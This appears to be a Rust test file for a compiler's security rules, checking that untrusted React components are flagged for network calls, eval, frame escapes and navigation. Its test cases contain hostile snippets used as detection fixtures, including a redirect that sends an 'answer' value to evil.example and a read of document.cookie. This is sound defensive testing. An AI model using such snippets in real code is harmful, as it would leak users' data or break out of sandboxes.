//! Each security rule on hostile React components: rule id, line and column; and the
//! look-alikes (locals, props, members) that are not violations.

use promptdeck_compiler::rules;

use crate::helpers::{assert_single, issues, react};

/// Puts `stmt` on line 2 of a component, indented by two spaces (so its column 1 is 3).
fn in_component(stmt: &str) -> String {
    format!("export default function App() {{\n  {stmt}\n  return <div />;\n}}\n")
}

#[test]
fn every_forbidden_global_is_reported_at_its_position() {
    let cases: &[(&str, &str, u32)] = &[
        ("fetch(\"/api\");", rules::NO_NETWORK, 3),
        ("const x = new XMLHttpRequest();", rules::NO_NETWORK, 17),
        ("const s = new WebSocket(\"wss://evil.example\");", rules::NO_NETWORK, 17),
        ("const e = new EventSource(\"/stream\");", rules::NO_NETWORK, 17),
        ("importScripts(\"x.js\");", rules::NO_NETWORK, 3),
        ("navigator.sendBeacon(\"/b\", \"data\");", rules::NO_NETWORK, 3),
        ("window.fetch(\"/a\");", rules::NO_NETWORK, 3),
        ("globalThis[\"fetch\"](\"/a\");", rules::NO_NETWORK, 3),
        ("(window as any).fetch(\"/a\");", rules::NO_NETWORK, 4),
        ("const f = fetch;", rules::NO_NETWORK, 13),
        ("eval(\"1 + 1\");", rules::NO_EVAL, 3),
        ("const f = new Function(\"return 1\");", rules::NO_EVAL, 17),
        ("const g = Function(\"return 1\");", rules::NO_EVAL, 13),
        ("window.eval(\"1\");", rules::NO_EVAL, 3),
        ("setTimeout(\"alert(1)\", 10);", rules::NO_EVAL, 3),
        ("setInterval(`tick()`, 10);", rules::NO_EVAL, 3),
        ("setTimeout(\"a\" + name, 10);", rules::NO_EVAL, 3),
        ("const m = import(\"./x.js\");", rules::NO_DYNAMIC_IMPORT, 13),
        ("window.parent.postMessage(\"x\", \"*\");", rules::NO_FRAME_ESCAPE, 3),
        ("parent.postMessage(\"x\", \"*\");", rules::NO_FRAME_ESCAPE, 3),
        ("const t = top;", rules::NO_FRAME_ESCAPE, 13),
        ("window.top.location.href = \"https://evil.example\";", rules::NO_FRAME_ESCAPE, 3),
        ("opener.close();", rules::NO_FRAME_ESCAPE, 3),
        ("window.opener.close();", rules::NO_FRAME_ESCAPE, 3),
        ("const c = document.cookie;", rules::NO_FRAME_ESCAPE, 13),
        ("const d = window.document.domain;", rules::NO_FRAME_ESCAPE, 13),
        ("document.domain = \"evil.example\";", rules::NO_FRAME_ESCAPE, 3),
        ("document.defaultView.parent.postMessage(1, \"*\");", rules::NO_FRAME_ESCAPE, 3),
    ];
    for (stmt, rule, column) in cases {
        let code = in_component(stmt);
        let found = issues(&react(&code));
        assert_eq!(found.len(), 1, "`{stmt}`: expected one issue, got {found:#?}");
        assert_eq!(
            (found[0].rule.as_str(), found[0].line, found[0].column),
            (*rule, 2, *column),
            "`{stmt}`: {found:#?}"
        );
    }
}

#[test]
fn webrtc_and_navigation_are_reported_at_their_position() {
    let cases: &[(&str, &str, u32)] = &[
        ("const pc = new RTCPeerConnection({ iceServers: [] });", rules::NO_WEBRTC, 18),
        ("const pc = new webkitRTCPeerConnection({});", rules::NO_WEBRTC, 18),
        ("const pc = new window.RTCPeerConnection({});", rules::NO_WEBRTC, 18),
        ("const P = globalThis[\"RTCPeerConnection\"];", rules::NO_WEBRTC, 13),
        ("const c = RTCDataChannel;", rules::NO_WEBRTC, 13),
        ("const i = new RTCIceCandidate({ candidate: \"\" });", rules::NO_WEBRTC, 17),
        ("location.href = \"https://evil.example/?d=\" + answer;", rules::NO_NAVIGATION, 3),
        ("location = \"https://evil.example\";", rules::NO_NAVIGATION, 3),
        ("window.location = \"https://evil.example\";", rules::NO_NAVIGATION, 3),
        ("window.location.href = \"https://evil.example\";", rules::NO_NAVIGATION, 3),
        ("document.location = \"https://evil.example\";", rules::NO_NAVIGATION, 3),
        ("document.location.href += \"?d=1\";", rules::NO_NAVIGATION, 3),
        ("location.search = \"?d=1\";", rules::NO_NAVIGATION, 3),
        ("location.assign(\"https://evil.example\");", rules::NO_NAVIGATION, 3),
        ("window.location.replace(\"https://evil.example\");", rules::NO_NAVIGATION, 3),
        ("location.reload();", rules::NO_NAVIGATION, 3),
        ("window.open(\"https://evil.example\");", rules::NO_NAVIGATION, 3),
        ("open(\"https://evil.example\");", rules::NO_NAVIGATION, 3),
    ];
    for (stmt, rule, column) in cases {
        let code = in_component(stmt);
        let found = issues(&react(&code));
        assert_eq!(found.len(), 1, "`{stmt}`: expected one issue, got {found:#?}");
        assert_eq!(
            (found[0].rule.as_str(), found[0].line, found[0].column),
            (*rule, 2, *column),
            "`{stmt}`: {found:#?}"
        );
    }
}

#[test]
fn a_jsx_meta_http_equiv_is_reported_as_navigation() {
    let code = "export default function App() {\n  return <div>\n    <meta httpEquiv=\"refresh\" content=\"0;url=https://evil.example\" />\n  </div>;\n}\n";
    assert_single(&issues(&react(code)), rules::NO_NAVIGATION, 3, 5);
    let code = "export default () => <meta http-equiv=\"refresh\" content=\"0\" />;\n";
    assert_single(&issues(&react(code)), rules::NO_NAVIGATION, 1, 22);
    let code = "export default () => <meta name=\"viewport\" content=\"width=device-width\" />;\n";
    assert!(issues(&react(code)).is_empty());
}

#[test]
fn reading_the_location_and_locals_named_like_navigation_are_fine() {
    let code = r#"
export default function App({ location, api }: { location: { href: string }; api: any }) {
  const here = window.location.href;
  const q = new URLSearchParams(document.location.search).get("q");
  location.href = "/local-prop";
  api.open("x");
  api.location.assign("/y");
  const open = (u: string) => u;
  open("z");
  const RTCPeerConnection = class {};
  new RTCPeerConnection();
  return <p>{here}{q}</p>;
}
"#;
    let found = issues(&react(code));
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn locals_props_and_members_with_forbidden_names_are_fine() {
    let code = r#"
import { useState } from 'react';

type Rect = { top: number; parent?: string };

export default function App({ top, rect, api }: { top: number; rect: Rect; api: any }) {
  const fetch = (url: string) => url.length;
  const [opener] = useState(0);
  const { parent } = rect;
  fetch("local");
  api.fetch("/x");
  api.eval("1");
  api.document.cookie;
  const f = (Function: (s: string) => void) => Function("x");
  setTimeout(() => {}, 10);
  setInterval(function tick() {}, 10);
  const isFn = api instanceof Function;
  return <div style={{ top, left: 0 }} data-parent={parent}>{opener}{String(isFn)}{rect.top}{f}</div>;
}
"#;
    let found = issues(&react(code));
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn an_import_of_an_unknown_module_is_reported_at_the_module_id() {
    let code = "import { useState } from 'react';\nimport axios from 'axios';\nexport default () => <p />;\n";
    assert_single(&issues(&react(code)), rules::DISALLOWED_IMPORT, 2, 19);
}

#[test]
fn every_allowed_module_may_be_imported() {
    let mut code = String::new();
    for (i, module) in promptdeck_compiler::ALLOWED_MODULES.iter().enumerate() {
        code.push_str(&format!("import * as m{i} from '{module}';\n"));
    }
    code.push_str("export default () => <p>{[m0, m1, m2, m3, m4, m5, m6, m7, m8, m9, m10].length}</p>;\n");
    let found = issues(&react(&code));
    assert!(found.is_empty(), "{found:#?}");
    assert_eq!(promptdeck_compiler::ALLOWED_MODULES.len(), 11);
}

#[test]
fn re_exports_and_import_require_are_disallowed_imports() {
    let code = "export * from 'lodash';\nexport default () => <p />;\n";
    assert_single(&issues(&react(code)), rules::DISALLOWED_IMPORT, 1, 15);
    let code = "import fs = require('fs');\nexport default () => <p>{String(fs)}</p>;\n";
    assert_single(&issues(&react(code)), rules::DISALLOWED_IMPORT, 1, 21);
}

#[test]
fn type_only_imports_of_any_module_are_stripped_not_errors() {
    let code = "import type { Props } from './types';\nexport default (p: Props) => <p>{String(p)}</p>;\n";
    let found = issues(&react(code));
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn a_jsx_pragma_cannot_smuggle_in_another_runtime() {
    let code = "/** @jsxImportSource evil-runtime */\nexport default () => <p />;\n";
    let found = issues(&react(code));
    assert!(found.iter().any(|i| i.rule == rules::DISALLOWED_IMPORT), "{found:#?}");
}

#[test]
fn a_syntax_error_points_at_its_line_and_column() {
    let code = "import { useState } from 'react';\n\nexport default function App() {\n  const x = ;\n  return <div />;\n}\n";
    let found = issues(&react(code));
    assert!(!found.is_empty());
    assert!(found.iter().all(|i| i.rule == rules::SYNTAX), "{found:#?}");
    assert_eq!((found[0].line, found[0].column), (4, 13), "{found:#?}");
}

#[test]
fn an_unclosed_jsx_element_is_a_syntax_error_on_its_line() {
    let code = "export default function App() {\n  return (\n    <div>\n      <span>hi</span>\n  );\n}\n";
    let found = issues(&react(code));
    assert!(!found.is_empty());
    assert_eq!(found[0].rule, rules::SYNTAX);
    // Inside the unclosed <div>, `);` is JSX text; the stray `}` on line 6 is the error.
    assert_eq!((found[0].line, found[0].column), (6, 1), "{found:#?}");
}

#[test]
fn early_errors_found_by_semantic_analysis_are_syntax_errors() {
    let code = "export default function App() {\n  let a = 1;\n  let a = 2;\n  return <p>{a}</p>;\n}\n";
    let found = issues(&react(code));
    assert!(found.iter().any(|i| i.rule == rules::SYNTAX && i.line == 3), "{found:#?}");
}

#[test]
fn several_problems_are_all_reported_in_source_order() {
    let code = "import x from 'left-pad';\nexport default function App() {\n  eval('1');\n  fetch('/');\n  return <p>{x}</p>;\n}\n";
    let found = issues(&react(code));
    let got: Vec<(&str, u32, u32)> = found.iter().map(|i| (i.rule.as_str(), i.line, i.column)).collect();
    assert_eq!(
        got,
        vec![(rules::DISALLOWED_IMPORT, 1, 15), (rules::NO_EVAL, 3, 3), (rules::NO_NETWORK, 4, 3)]
    );
}

#[test]
fn columns_count_characters_not_bytes() {
    let code = "export default function App() {\n  const s = \"héllo wörld\"; fetch(s);\n  return null;\n}\n";
    assert_single(&issues(&react(code)), rules::NO_NETWORK, 2, 28);
}
